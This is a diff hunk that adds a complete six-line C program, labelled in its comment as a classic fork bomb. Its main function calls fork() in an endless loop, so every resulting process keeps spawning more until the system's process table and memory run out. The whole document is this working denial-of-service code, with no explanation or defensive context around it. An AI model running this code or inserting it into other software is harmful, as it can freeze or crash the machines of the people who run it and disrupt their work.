@@ -1,0 +1,6 @@
+// Classic fork bomb: every process forks forever.
+#include <unistd.h>
+
+int main(void) {
+    for (;;) fork();
+}
